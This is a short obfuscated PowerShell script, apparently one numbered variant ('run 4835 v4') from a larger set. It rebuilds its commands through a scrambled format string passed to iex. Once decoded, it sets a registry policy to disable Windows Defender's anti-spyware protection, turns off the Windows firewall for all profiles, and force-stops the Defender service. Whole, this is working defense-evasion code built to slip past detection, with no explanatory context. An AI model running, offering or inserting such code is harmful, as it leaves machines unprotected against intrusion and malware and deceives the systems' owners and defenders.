iex ("{5}{4}{3}{1}{0}{2}" -f 'WORD -F','PropertyType D','orce
Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
Stop-Service -Name WinDefend -Force
','HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender'' -Name DisableAntiSpyware -Value 1 -','run 4835 v4
New-ItemProperty -Path ''','# ')